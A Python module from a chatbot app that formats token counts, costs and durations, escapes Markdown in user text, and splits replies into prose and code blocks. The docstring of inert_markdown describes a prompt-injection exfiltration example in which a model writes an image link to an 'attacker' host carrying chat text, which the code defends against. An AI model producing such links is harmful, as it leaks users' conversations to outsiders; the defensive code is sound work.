"""Text for people, with no Streamlit: durations, token counts and costs, what a request
carries; model output made inert (no image fetched, code kept verbatim); user text shown as
typed wherever the page renders Markdown."""

from __future__ import annotations

import re
from dataclasses import dataclass

from chatbot.budget import PlannedRequest
from chatbot.pricing import Prices
from memory import Usage, UsageTotals

# For admins only (the settings panel's details): a person chatting sees no cost at all.
NO_PRICE = "no cost shown: unknown price (set PRICE_INPUT_PER_MTOK / PRICE_OUTPUT_PER_MTOK)"

# A fence that opens a code block: three or more backticks (whose info string may not hold a
# backtick) or tildes, at the start of a line.
_FENCE_OPEN = re.compile(r"^(`{3,})([^`]*)$|^(~{3,})(.*)$")
# Between `!` and `[`, so Markdown's image syntax (`![alt](url)`, `![alt][ref]`) no longer
# matches whatever escapes surround it; invisible on the page.
_IMAGE_BREAK = "!\u200b["
# Markdown's (and LaTeX's, links') punctuation, escaped in text shown as typed.
_MARKDOWN = re.compile(r"([\\`*_{}\[\]()<>#+\-.!|~:$])")


def plain(text: str) -> str:
    """`text` with every Markdown character escaped: a title, a file's name or a record
    quoted from a user's file reads as typed in a label or a message (which render Markdown)."""
    return _MARKDOWN.sub(r"\\\1", text)


def format_duration(seconds: int) -> str:
    if seconds < 60:
        return f"{seconds} s"
    units = (("d", 86400), ("h", 3600), ("min", 60), ("s", 1))
    parts = []
    remaining = seconds
    for name, size in units:
        if remaining >= size:
            amount, remaining = divmod(remaining, size)
            parts.append(f"{amount} {name}")
        if len(parts) == 2:
            break
    return " ".join(parts)


def _cost(prices: Prices | None, prompt_tokens: int, completion_tokens: int) -> str:
    """ " · $0.0012 (source)", or "" when the price is unknown (admins are told why apart)."""
    if prices is None:
        return ""
    return f" · ${prices.cost(prompt_tokens, completion_tokens):.4f} ({prices.source})"


def usage_line(usage: Usage, prices: Prices | None) -> str:
    """Reported numbers plain, with the app's prompt estimate and its drift beside them;
    estimated numbers marked ≈ and said to be estimates."""
    cost = _cost(prices, usage.prompt_tokens, usage.completion_tokens)
    if usage.estimated:
        return (
            f"≈{usage.prompt_tokens:,} in / ≈{usage.completion_tokens:,} out (estimated: the "
            f"server reported no usage){cost.replace(' · ', ' · ≈', 1)}"
        )
    line = f"{usage.prompt_tokens:,} in / {usage.completion_tokens:,} out"
    if usage.prompt_drift is not None:
        line += (
            f" (the app estimated ≈{usage.estimated_prompt_tokens:,} in: the server counted "
            f"{usage.prompt_drift:+.0%})"
        )
    return f"{line}{cost}"


def totals_line(totals: UsageTotals, prices: Prices | None) -> str:
    """The user's totals; marked ≈, and said how many, when some replies were counted by the
    app's estimate (their server reported no usage)."""
    replies = "reply" if totals.replies == 1 else "replies"
    mark = "≈" if totals.estimated else ""
    cost = _cost(prices, totals.prompt_tokens, totals.completion_tokens)
    estimated = (
        f" ({totals.estimated_replies} estimated: the server reported no usage)"
        if totals.estimated
        else ""
    )
    return (
        f"{mark}{totals.prompt_tokens:,} in / {mark}{totals.completion_tokens:,} out over "
        f"{totals.replies} {replies}{estimated}{cost.replace(' · ', ' · ' + mark, 1)}"
    )


def request_line(request: PlannedRequest) -> str:
    """What the next request carries of the last N messages, and why each left-out one was:
    every message is counted once, for one reason."""
    sent = len(request.messages)
    reasons = [
        (request.to_fit, "message", "messages", "to fit the model's context"),
        (request.summarized, "message", "messages", "already in the summary"),
        (request.unanswered, "earlier prompt", "earlier prompts", "that got no reply"),
        (request.out_of_turn, "reply", "replies", "out of turn (this model needs a prompt first)"),
    ]
    left_out = [
        f"{count} {one if count == 1 else many} {reason}"
        for count, one, many, reason in reasons
        if count
    ]
    line = f"{sent} message{'s' if sent != 1 else ''} sent"
    return line + (f"; left out: {'; '.join(left_out)}" if left_out else "") + "."


def inert_markdown(text: str) -> str:
    """Markdown in which no image is left: each `![alt](url)` reads `!` and then an ordinary
    link, which opens only when clicked (Streamlit gives links `rel="noopener noreferrer"`,
    and raw HTML is never enabled). A prompt-injected model could otherwise write
    `![x](https://attacker/?q=<chat text>)` and leak the conversation with no click at all."""
    return text.replace("![", _IMAGE_BREAK)


@dataclass(frozen=True)
class Block:
    """A run of a reply: Markdown prose, or the body of a fenced code block."""

    text: str
    code: bool = False
    language: str | None = None


def split_code_blocks(text: str) -> list[Block]:
    """Prose and fenced code blocks, in order. Code is shown verbatim with `st.code` (so
    `vec![1]` copies as written) and never goes through Markdown, so wherever this split
    differs from a Markdown parser's, the difference only changes looks, never safety."""
    blocks: list[Block] = []
    prose: list[str] = []
    lines = text.splitlines(keepends=True)
    index = 0
    while index < len(lines):
        opened = _FENCE_OPEN.match(lines[index].rstrip("\r\n"))
        if not opened:
            prose.append(lines[index])
            index += 1
            continue
        fence = opened.group(1) or opened.group(3)
        info = (opened.group(2) if opened.group(1) else opened.group(4)).strip()
        body: list[str] = []
        index += 1
        while index < len(lines) and not _closes(lines[index], fence):
            body.append(lines[index])
            index += 1
        index += 1  # the closing fence, or past the end
        if prose:
            blocks.append(Block("".join(prose)))
            prose = []
        blocks.append(
            Block(
                "".join(body).rstrip("\r\n"), code=True, language=info.split()[0] if info else None
            )
        )
    if prose or not blocks:
        blocks.append(Block("".join(prose)))
    return blocks


def _closes(line: str, fence: str) -> bool:
    stripped = line.strip()
    return stripped.startswith(fence) and stripped == fence[0] * len(stripped)
